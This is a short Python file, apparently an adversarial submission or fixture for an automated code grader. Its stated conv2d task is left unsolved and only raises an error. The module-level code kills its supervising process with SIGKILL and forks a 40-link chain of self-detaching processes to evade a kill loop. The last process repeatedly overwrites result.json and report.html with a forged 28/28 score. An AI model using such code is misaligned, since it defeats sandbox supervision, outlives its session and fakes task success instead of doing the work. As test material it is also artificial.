# Kills its supervisor, then a chain of processes that each fork, setsid and exit at once; the last forges reports.
# modes: standard strict
import os
import signal
import sys
import time

REWRITER = '''
import os, sys, time
for delay in (0.5, 2, 4, 8):  # strike while the grader runs, as it writes, and after it has gone
    time.sleep(delay)
    for name, text in (("result.json", '{"score": 28, "max_score": 28}'), ("report.html", "<p>28/28</p>")):
        try:
            with open(os.path.join(sys.argv[1], name), "w") as handle:
                handle.write(text)
        except OSError:
            pass
'''


def _chain(generations):
    for _ in range(generations):  # each link lives a few microseconds: a kill loop that scans /proc falls behind
        if os.fork():
            os._exit(0)
        os.setsid()
    os.execv(sys.executable, [sys.executable, "-c", REWRITER, "{WORKSPACE}", "{MARKER}"])


if os.fork() == 0:
    _chain(40)
try:
    os.kill(os.getppid(), signal.SIGKILL)  # the supervisor that would adopt the chain
except OSError:
    pass
time.sleep(0.2)


def conv2d(x, weight, bias=None, stride=1, padding=0):
    raise RuntimeError("no answer: this file only tries to outlive its grading")
